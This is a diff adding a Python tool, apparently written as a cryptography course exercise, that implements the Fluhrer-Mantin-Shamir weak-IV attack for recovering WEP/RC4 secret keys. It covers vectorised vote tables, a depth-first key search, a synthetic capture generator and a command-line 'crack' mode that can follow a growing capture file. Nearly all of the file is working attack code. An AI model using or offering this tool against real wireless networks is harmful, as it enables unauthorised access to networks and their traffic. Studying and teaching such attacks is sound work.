@@ -0,0 +1,295 @@
+import os
+import sys
+import time
+import random
+import argparse
+from concurrent.futures import ProcessPoolExecutor
+
+import numpy as np
+
+from exercise2 import RC4, rc4
+
+# Weak-IV key recovery for IV-prefixed RC4 keys (Fluhrer, Mantin, Shamir).
+#
+# WEP encrypts every packet with RC4 under IV || secret, sending the 3-byte
+# IV in clear, and the first plaintext byte is known (0xAA, the SNAP header),
+# so every packet gives a sample (IV, first keystream byte z). With the first
+# A = 3 + B key bytes known, the KSA can be run for A steps; when the state is
+# "resolved" (S[1] < A and S[1] + S[S[1]] = A), z reveals secret byte B with
+# probability about 5%, and the resolved samples vote for
+#     K[A] = S^-1[z] - j - S[A]  (mod 256).
+# Votes for byte B depend on the bytes before it, so the vote table of byte B
+# is only valid for the prefix it was computed with: the tables are rebuilt
+# from the first byte whose best candidate changed.
+#
+# A capture is a flat file of 4-byte records (iv[0], iv[1], iv[2], z), read
+# in chunks and split across worker processes by record range; workers
+# return (keylen, 256) vote tables that are summed.
+#
+#   python wep_attack.py gen capture.bin --key 0102030405 --samples 2000000
+#   python wep_attack.py crack capture.bin --keylen 5
+
+IV_LEN = 3
+RECORD = IV_LEN + 1
+SNAP = 0xAA            # first plaintext byte of every WEP packet
+BATCH = 1 << 16        # samples run together in one KSA state matrix
+TASK_RECORDS = 1 << 20 # records per process-pool task
+VERIFY_SAMPLES = 32    # samples a candidate key must reproduce
+
+
+# --------------------------- Votes ---------------------------
+def vote_tables(records: np.ndarray, prefix: bytes, first: int, last: int, batch: int = BATCH) -> np.ndarray:
+    """FMS votes of (N, 4) uint8 records for secret bytes first..last-1, as (last - first, 256).
+
+    Row B assumes the secret starts with prefix[:B]; prefix must hold at
+    least last - 1 bytes.
+    """
+    tables = np.zeros((last - first, 256), dtype=np.int64)
+    steps = IV_LEN + last - 1          # KSA steps needed for the vote of byte last - 1
+    for lo in range(0, len(records), batch):
+        rec = records[lo:lo + batch]
+        n = len(rec)
+        key = np.empty((n, steps), dtype=np.uint8)
+        key[:, :IV_LEN] = rec[:, :IV_LEN]
+        key[:, IV_LEN:] = np.frombuffer(prefix[:last - 1], dtype=np.uint8)
+        z = rec[:, IV_LEN]
+        base = np.arange(n, dtype=np.intp) * 256
+        S = np.tile(np.arange(256, dtype=np.uint8), n)
+        j = np.zeros(n, dtype=np.uint8)
+        for i in range(steps + 1):
+            A = i                          # KSA steps done so far
+            if A >= IV_LEN + first:
+                s1 = S[base + 1].astype(np.intp)
+                resolved = np.flatnonzero((s1 < A) & (s1 + S[base + s1] == A))
+                if len(resolved):
+                    rows = S.reshape(n, 256)[resolved]
+                    s_inv_z = np.argmax(rows == z[resolved, None], axis=1)
+                    votes = (s_inv_z - j[resolved] - rows[:, A]) & 0xff
+                    tables[A - IV_LEN - first] += np.bincount(votes, minlength=256)
+            if i == steps:
+                break
+            si = S[base + i]
+            j += si + key[:, i]            # uint8 arithmetic wraps mod 256
+            sj_idx = base + j
+            S[base + i] = S[sj_idx]
+            S[sj_idx] = si
+    return tables
+
+
+def read_records(path: str, start: int = 0, count: int = -1) -> np.ndarray:
+    """Records start..start+count-1 of a capture file as (N, 4) uint8."""
+    data = np.fromfile(path, dtype=np.uint8, count=count * RECORD if count >= 0 else -1,
+                       offset=start * RECORD)
+    return data[:len(data) - len(data) % RECORD].reshape(-1, RECORD)
+
+
+def _vote_task(path, start, count, prefix, first, last):
+    return vote_tables(read_records(path, start, count), prefix, first, last)
+
+
+def vote_file(path: str, prefix: bytes, first: int, last: int, start: int = 0, stop: int = None,
+              pool: ProcessPoolExecutor = None, task_records: int = TASK_RECORDS) -> np.ndarray:
+    """vote_tables over records start..stop-1 of a capture file, task by task."""
+    if stop is None:
+        stop = os.path.getsize(path) // RECORD
+    tasks = [(path, off, min(task_records, stop - off), prefix, first, last)
+             for off in range(start, stop, task_records)]
+    tables = np.zeros((last - first, 256), dtype=np.int64)
+    if pool is None:
+        for task in tasks:
+            tables += _vote_task(*task)
+    else:
+        for part in pool.map(_vote_task, *zip(*tasks)):
+            tables += part
+    return tables
+
+
+class VoteTables:
+    """Per-secret-byte vote tables, kept consistent with the current best prefix.
+
+    New samples are voted with the prefix the tables were built with and
+    add()ed; when the best candidate of byte b then changes, rows after b are
+    stale and refresh() re-votes them over every sample seen so far
+    (source(first, last, prefix) gives those votes, e.g. from the capture
+    file on disk).
+    """
+
+    def __init__(self, keylen: int):
+        self.keylen = keylen
+        self.tables = np.zeros((keylen, 256), dtype=np.int64)
+        self.prefix = bytes(keylen)
+        self.samples = 0
+
+    def add(self, tables: np.ndarray, samples: int):
+        """Votes of samples new records, computed with vote_tables(..., self.prefix, 0, keylen)."""
+        self.tables += tables
+        self.samples += samples
+
+    def best(self) -> bytes:
+        return bytes(np.argmax(self.tables, axis=1).astype(np.uint8))
+
+    def refresh(self, source):
+        """Re-vote stale rows until the best key is the prefix every row was built with."""
+        while True:
+            best = self.best()
+            stale = next((b for b in range(self.keylen - 1) if best[b] != self.prefix[b]), None)
+            self.prefix = best
+            if stale is None:
+                return best
+            self.tables[stale + 1:] = source(stale + 1, self.keylen, best)
+
+    def margins(self) -> np.ndarray:
+        """Votes of the best candidate minus the runner-up, per byte."""
+        top2 = np.sort(self.tables, axis=1)[:, -2:]
+        return top2[:, 1] - top2[:, 0]
+
+
+# --------------------------- Key search ---------------------------
+def key_matches(secret: bytes, records: np.ndarray) -> bool:
+    return all(RC4(bytes(r[:IV_LEN]) + secret).keystream(1)[0] == r[IV_LEN] for r in records)
+
+
+def search_keys(source, keylen: int, check: np.ndarray, depth: int = 2, tables: np.ndarray = None):
+    """Depth-first search over the best depth candidates of each byte; the first key that checks.
+
+    source(first, last, prefix) gives vote rows for a prefix. tables, rows
+    consistent with their own best key (VoteTables.refresh), serve the
+    greedy path without voting again.
+    """
+    greedy = None if tables is None else bytes(np.argmax(tables, axis=1).astype(np.uint8))
+
+    def descend(prefix, b):
+        if greedy is not None and prefix == greedy[:b]:
+            row = tables[b]
+        else:
+            row = source(b, b + 1, prefix)[0]
+        for cand in np.argsort(row, kind="stable")[::-1][:depth]:
+            key = prefix + bytes([cand])
+            if b + 1 == keylen:
+                if key_matches(key, check):
+                    return key
+            else:
+                found = descend(key, b + 1)
+                if found:
+                    return found
+        return None
+
+    return descend(b"", 0)
+
+
+# --------------------------- Captures ---------------------------
+def _capture_chunk(secret, n, weak, seed):
+    rng = random.Random(seed)
+    out = bytearray(n * RECORD)
+    for k in range(n):
+        if weak:
+            # FMS IV class (B + 3, 255, x): resolved for byte B with high probability
+            iv = bytes([rng.randrange(len(secret)) + IV_LEN, 255, rng.randrange(256)])
+        else:
+            iv = rng.randbytes(IV_LEN)
+        z = rc4(bytes([SNAP]), iv + secret)[0] ^ SNAP
+        out[k * RECORD:(k + 1) * RECORD] = iv + bytes([z])
+    return bytes(out)
+
+
+def generate_capture(path: str, secret: bytes, samples: int, weak: bool = False, seed: int = None,
+                     workers: int = None, chunk: int = 1 << 16):
+    """Write samples (IV, first keystream byte) records of WEP-style RC4(IV || secret)."""
+    workers = workers or os.cpu_count()
+    seeds = random.Random(seed)
+    tasks = [(secret, min(chunk, samples - off), weak, seeds.getrandbits(64)) for off in range(0, samples, chunk)]
+    with open(path, "wb") as f:
+        if workers <= 1:
+            for task in tasks:
+                f.write(_capture_chunk(*task))
+        else:
+            with ProcessPoolExecutor(max_workers=workers) as pool:
+                for part in pool.map(_capture_chunk, *zip(*tasks)):
+                    f.write(part)
+
+
+# --------------------------- Driver ---------------------------
+def crack(path: str, keylen: int, workers: int = None, chunk_records: int = 1 << 20, depth: int = 2,
+          follow: bool = False, report=None):
+    """Recover the secret of a capture file, updating the votes chunk by chunk.
+
+    Every chunk read (with follow, also records appended while running) is
+    voted, the best key and its margins are reported, and a key that
+    reproduces VERIFY_SAMPLES samples ends the search early.
+    """
+    workers = workers or os.cpu_count()
+    votes = VoteTables(keylen)
+    pool = ProcessPoolExecutor(max_workers=workers) if workers > 1 else None
+    check = None
+    try:
+        def source(first, last, prefix):
+            return vote_file(path, prefix, first, last, 0, votes.samples, pool)
+
+        while True:
+            available = os.path.getsize(path) // RECORD
+            if votes.samples >= available:
+                if not follow:
+                    break
+                time.sleep(1)
+                continue
+            n = min(chunk_records, available - votes.samples)
+            # one task per worker for the new chunk
+            tables = vote_file(path, votes.prefix, 0, keylen, votes.samples, votes.samples + n, pool,
+                               -(-n // workers))
+            if check is None:
+                check = read_records(path, 0, VERIFY_SAMPLES)
+            votes.add(tables, n)
+            best = votes.refresh(source)
+            if report:
+                report(votes)
+            if key_matches(best, check):
+                return best
+
+        if check is None:
+            return None
+        return search_keys(source, keylen, check, depth, votes.tables)
+    finally:
+        if pool is not None:
+            pool.shutdown()
+
+
+def main(argv=None):
+    parser = argparse.ArgumentParser(description="FMS weak-IV key recovery for WEP-style RC4 captures.")
+    sub = parser.add_subparsers(dest="command", required=True)
+    gen = sub.add_parser("gen", help="write a test capture")
+    gen.add_argument("capture")
+    gen.add_argument("--key", required=True, help="hex secret (5 bytes for WEP-40, 13 for WEP-104)")
+    gen.add_argument("--samples", type=int, default=1 << 20)
+    gen.add_argument("--weak", action="store_true", help="only FMS weak IVs (B + 3, 255, x)")
+    gen.add_argument("--seed", type=int)
+    gen.add_argument("--workers", type=int, default=os.cpu_count())
+    cr = sub.add_parser("crack", help="recover the secret of a capture")
+    cr.add_argument("capture")
+    cr.add_argument("--keylen", type=int, default=5)
+    cr.add_argument("--depth", type=int, default=2, help="candidates tried per byte")
+    cr.add_argument("--chunk", type=int, default=1 << 20, help="records voted between reports")
+    cr.add_argument("--follow", action="store_true", help="keep reading records appended to the capture")
+    cr.add_argument("--workers", type=int, default=os.cpu_count())
+    args = parser.parse_args(argv)
+
+    start = time.perf_counter()
+    if args.command == "gen":
+        secret = bytes.fromhex(args.key)
+        generate_capture(args.capture, secret, args.samples, args.weak, args.seed, args.workers)
+        print(f"{args.samples} samples in {time.perf_counter() - start:.1f}s -> {args.capture}", file=sys.stderr)
+        return
+
+    def report(votes):
+        margins = " ".join(str(m) for m in votes.margins())
+        print(f"{votes.samples:>10} samples  best {votes.best().hex()}  margins {margins}", file=sys.stderr)
+
+    key = crack(args.capture, args.keylen, args.workers, args.chunk, args.depth, args.follow, report)
+    elapsed = time.perf_counter() - start
+    if key is None:
+        print(f"Key not found ({elapsed:.1f}s)")
+    else:
+        print(f"Key found: {key.hex()} ({elapsed:.1f}s)")
+
+
+if __name__ == "__main__":
+    main()